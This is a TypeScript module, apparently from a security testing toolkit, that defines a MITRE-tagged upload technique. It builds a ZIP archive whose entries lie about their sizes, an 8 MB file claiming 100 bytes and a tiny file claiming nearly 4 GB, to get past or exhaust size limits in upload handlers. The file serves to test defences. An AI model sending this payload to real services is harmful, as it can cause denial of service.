import { rawZip } from '../../../raw-zip.ts';
import { upload } from '../../../upload.ts';

/** Reserving by what a header says, or trusting it as a limit, are both mistakes. */
export const technique = upload({
  id: 'impact.lying-zip-upload',
  title: 'Upload an archive that lies about its sizes',
  purpose:
    'A reader that believes the stated size lets eight megabytes through a limit of one hundred bytes.',
  mitre: ['T1499.004'],
  sources: [
    {
      title: 'Endpoint Denial of Service: Application or System Exploitation, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1499/004/',
    },
  ],
  contentType: 'application/zip',
  payload: () =>
    rawZip([
      { name: 'letter.txt', content: new Uint8Array(8 * 1024 * 1024), claimedSize: 100 },
      { name: 'reply.txt', content: new Uint8Array(100), claimedSize: 0xfffffff0 },
    ]),
});
